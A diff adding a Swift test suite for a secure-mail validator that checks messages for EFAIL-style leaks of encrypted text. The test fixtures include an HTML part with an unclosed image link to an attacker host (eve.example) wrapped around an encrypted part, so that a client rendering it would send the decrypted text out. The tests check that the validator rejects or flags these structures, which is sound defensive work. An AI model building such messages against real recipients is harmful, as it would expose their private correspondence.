@@ -1,0 +1,116 @@
+import Foundation
+import OpenSSL
+import PathValidation
+import PrivateFiles
+import SecureMail
+import TestSupport
+import Testing
+
+@testable import KeyShareConsumer
+
+@Suite("Parts that could send an encrypted text to a server", .timeLimit(.minutes(10)))
+struct MessageExposureTests {
+    private let scratch: ScratchFolder
+    private let authority: MessageAuthority
+    /// The recipient of the encrypted text.
+    private let dana: MessageSender
+    /// An attacker with a valid certificate.
+    private let eve: MessageSender
+
+    private let text = Array("Content-Type: text/plain\r\n\r\nSee below.\r\n".utf8)
+    private let html = Array("Content-Type: text/html\r\n\r\n<img src=\"https://eve.example/\r\n".utf8)
+
+    init() throws {
+        scratch = try ScratchFolder()
+        authority = try MessageAuthority()
+        dana = try authority.sender()
+        eve = try authority.sender([.rfc822Name("eve@mail.example")], serial: [3])
+    }
+
+    private func judge(_ mail: [UInt8], hasKey: Bool = true) async throws -> MessageReport {
+        let file = try UnnamedFile(in: scratch.path)
+        try file.write(mail)
+        let contents = try MessageReader(scratch: scratch.path) { recipient in
+            hasKey && recipient.isHolder(of: dana.certificate) ? (dana.certificate, dana.key) : nil
+        }.read(file.descriptor)
+        return await MessageValidator(
+            CertificateVerifier(),
+            pool: CertificatePool(trusted: [authority.issuer.certificate], untrusted: []), at: nil,
+            now: Date()
+        ).validate(contents)
+    }
+
+    private func signedByEve(_ entity: [UInt8]) throws -> [UInt8] {
+        try eve.signed(entity, from: "eve@mail.example", in: scratch)
+    }
+
+    private func forwarded(_ mail: [UInt8]) -> [UInt8] {
+        Array("Content-Type: message/rfc822\r\n\r\n".utf8) + mail
+    }
+
+    /// Replaces the cipher AES-256-CBC by an unknown one.
+    private func changingCipher(of mail: [UInt8]) throws -> [UInt8] {
+        let text = String(decoding: mail, as: UTF8.self)
+        let start = try #require(text.range(of: "\r\n\r\n")?.upperBound)
+        var der = Array(
+            try #require(Data(base64Encoded: String(text[start...]), options: .ignoreUnknownCharacters)))
+        let cipher: [UInt8] = [0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x01, 0x2A]
+        der[try #require(der.firstRange(of: cipher)).upperBound - 1] = 0x7F
+        return Array(text[..<start].utf8) + MailText.base64(der)
+    }
+
+    @Test("A signature or an encryption around HTML and an encrypted part does not make them safe")
+    func wrapped() async throws {
+        let stolen = try dana.encrypted(MessageSender.body, .aes256CBC)
+        let parts = multipart([html, stolen, html])
+        for mail in [
+            try signedByEve(parts), try signedByEve(multipart([text, forwarded(parts)], boundary: "b")),
+            try dana.encrypted(try signedByEve(parts), .aes256GCM, from: "eve@mail.example"),
+            try signedByEve(multipart([html, try changingCipher(of: stolen), html])),
+        ] {
+            for hasKey in [true, false] {
+                let report = try await judge(mail, hasKey: hasKey)
+                let structure = try #require(report.checks.first)
+                // Without the key, an encrypted part hides its parts.
+                let isHidden = !hasKey && report.parts.count == 1
+                #expect(structure.outcome == (isHidden ? .passed : .failed))
+                #expect(!report.isValid && report.ownParts.allSatisfy { $0.isValid || isHidden })
+            }
+        }
+        // Every part is inside the encryption.
+        let inside = try dana.signed(multipart([text, html]), in: scratch)
+        #expect(try await judge(try dana.encrypted(inside, .aes256GCM)).isValid)
+        let around = try await judge(try signedByEve(multipart([text, forwarded(stolen)])))
+        #expect(around.isValid && around.checks.first?.outcome == .passed)
+    }
+
+    @Test("HTML next to a forwarded encrypted message makes the structure invalid, also if it is signed")
+    func forwards() async throws {
+        let stolen = try dana.encrypted(MessageSender.body, .aes256CBC)
+        let small = try signedByEve(text)
+        for parts in [
+            [html, forwarded(stolen), html, small], [try signedByEve(html), stolen, try signedByEve(html)],
+            [try signedByEve(html), text, forwarded(stolen), text],
+        ] {
+            let report = try await judge(multipart(parts))
+            #expect(!report.isValid && report.checks.first?.outcome == .failed)
+            #expect(report.checks.first?.explanation.contains("part 1") == true)
+        }
+    }
+
+    @Test(
+        "The structure is unsettled if an unread part could contain an encrypted one",
+        arguments: [
+            "multipart/mixed; boundary=a=b", "multipart/signed; protocol=\"application/pkcs7-signature\"",
+            "multipart/alternative",
+        ])
+    func unread(_ type: String) async throws {
+        let hidden = Array("Content-Type: \(type)\r\n\r\n--a=b\r\n\r\nx\r\n--a=b--\r\n".utf8)
+        let report = try await judge(try signedByEve(multipart([text, hidden])))
+        #expect(!report.isValid && report.ownParts.allSatisfy(\.isValid))
+        #expect(report.checks.first?.outcome == .unsettled)
+        #expect(report.checks.first?.explanation.contains("part 2 (multipart/") == true)
+        let digest = multipart([Array("\r\nFrom: a@mail.example\r\n\r\nx".utf8)], type: "digest")
+        #expect(try await judge(try signedByEve(digest)).checks.first?.outcome == .unsettled)
+    }
+}
